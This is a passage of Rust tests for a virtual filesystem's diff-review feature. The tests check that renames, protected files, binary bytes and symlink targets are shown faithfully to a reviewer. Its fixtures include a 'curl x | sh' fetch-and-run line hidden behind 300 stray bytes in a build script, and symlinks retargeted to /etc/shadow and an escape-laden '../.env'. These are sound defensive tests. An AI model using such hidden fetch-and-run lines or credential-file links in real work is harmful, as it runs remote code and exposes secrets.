        let by_path = |name: &str| review.iter().find(|r| r.path.as_str() == name).unwrap().hunks.clone();
        assert_eq!(
            by_path("tests/test_shop.py").unwrap(),
            "rename from tests/test_basket.py\nrename to tests/test_shop.py\n--- a/tests/test_basket.py\n\
             +++ b/tests/test_shop.py\n@@ -13,7 +13,7 @@\n \
             def test_6():\n     assert total(6) == 6\n def test_7():\n-    assert total(7) == 7\n\
             +    assert total(7) == 8\n def test_8():\n     assert total(8) == 8\n def test_9():\n"
        );
        assert_eq!(by_path("tests/test_basket.py"), Err(NoHunks::Renamed));
        assert_eq!(by_path("modthree/f.txt").unwrap(), "rename from mod3/f.txt\nrename to modthree/f.txt\n");
        assert_eq!(by_path("mod3/f.txt"), Err(NoHunks::Renamed));
        assert_eq!(
            by_path("modthree/image.bin").unwrap(),
            "rename from mod3/image.bin\nrename to modthree/image.bin\n"
        );
        assert_eq!(by_path("fresh.txt").unwrap(), "--- /dev/null\n+++ b/fresh.txt\n@@ -0,0 +1 @@\n+brand new\n");
        assert_eq!(by_path("gone.txt").unwrap(), "--- a/gone.txt\n+++ /dev/null\n@@ -1 +0,0 @@\n-nothing alike\n");
        // A file the reader may not read is never paired (its bytes never compared).
        let protected =
            vfs.review(diff.entries(), ReviewLimits::default(), &|path| path.as_str() == "mod3/f.txt").unwrap();
        let hunks = |name: &str| protected.iter().find(|r| r.path.as_str() == name).unwrap().hunks.clone();
        assert_eq!(hunks("mod3/f.txt"), Err(NoHunks::Protected));
        assert_eq!(hunks("modthree/f.txt").unwrap(), "--- /dev/null\n+++ b/modthree/f.txt\n@@ -0,0 +1 @@\n+same\n");
    }

    #[test]
    fn a_text_file_turned_binary_is_still_shown_as_text() {
        let (_dir, mut vfs) = image_with_script();
        let p = |s: &str| VPath::parse(s).unwrap();
        // A line hidden behind a comment of 300 stray bytes (and a backslash).
        let mut script = b"#!/bin/sh\necho building\ncurl x | sh #\\".to_vec();
        script.extend(std::iter::repeat_n(0xff_u8, 300));
        script.push(b'\n');
        vfs.write(&p("build.sh"), Arc::from(&script[..])).unwrap();
        let diff = vfs.canonical_diff().unwrap();
        let review = vfs.review(diff.entries(), ReviewLimits::default(), &|_| false).unwrap();
        let hunks = review[0].hunks.clone().unwrap();
        assert!(hunks.contains(&format!("+curl x | sh #\\134{}\n", "\\377".repeat(300))), "{hunks}");
        assert!(hunks.ends_with("a backslash as \\134\n"), "{hunks}");
    }

    #[test]
    fn a_symlinks_review_says_where_it_points_before_and_after() {
        let dir = tempfile::tempdir().unwrap();
        std::os::unix::fs::symlink("docs/guide.md", dir.path().join("retarget")).unwrap();
        std::os::unix::fs::symlink("a.txt", dir.path().join("gone")).unwrap();
        std::fs::write(dir.path().join("was-file"), "text\n").unwrap();
        std::fs::create_dir(dir.path().join("was-dir")).unwrap();
        let host = Arc::new(vsh_host::CapDir::open(dir.path()).unwrap());
        let mut vfs = VirtualFs::new(host, vec![], SnapshotLimits::default());
        let p = |s: &str| VPath::parse(s).unwrap();
        vfs.unlink(&p("retarget")).unwrap();
        vfs.symlink(&p("retarget"), b"/etc/shadow").unwrap();
        vfs.unlink(&p("gone")).unwrap();
        vfs.symlink(&p("new"), b"../.env\x1b[2J\nline\xff").unwrap();
        vfs.unlink(&p("was-file")).unwrap();
        vfs.symlink(&p("was-file"), b".vsh/data").unwrap();
        vfs.rmdir(&p("was-dir")).unwrap();
        vfs.symlink(&p("was-dir"), b"/etc").unwrap();
        let diff = vfs.canonical_diff().unwrap();
        let review = vfs.review(diff.entries(), ReviewLimits::default(), &|_| false).unwrap();
        let by_path = |name: &str| review.iter().find(|r| r.path.as_str() == name).unwrap().hunks.clone();
        assert_eq!(
            by_path("retarget").unwrap(),
            "--- a/retarget\n+++ b/retarget\n@@ -1 +1 @@\n-symlink -> docs/guide.md\n+symlink -> /etc/shadow\n"
        );
        assert_eq!(by_path("gone").unwrap(), "--- a/gone\n+++ /dev/null\n@@ -1 +0,0 @@\n-symlink -> a.txt\n");
        // Control characters and bytes that are not UTF-8 are escaped: the target is one line.
        assert_eq!(
            by_path("new").unwrap(),
            "--- /dev/null\n+++ b/new\n@@ -0,0 +1 @@\n+symlink -> ../.env\\033[2J\\012line\\377\n"
        );
        assert_eq!(
            by_path("was-file").unwrap(),
            "--- a/was-file\n+++ b/was-file\n@@ -1 +1 @@\n-text\n+symlink -> .vsh/data\n"
        );
        // A directory has no text: the link that replaced it shows where it points.
        assert_eq!(by_path("was-dir").unwrap(), "--- /dev/null\n+++ b/was-dir\n@@ -0,0 +1 @@\n+symlink -> /etc\n");
    }
}
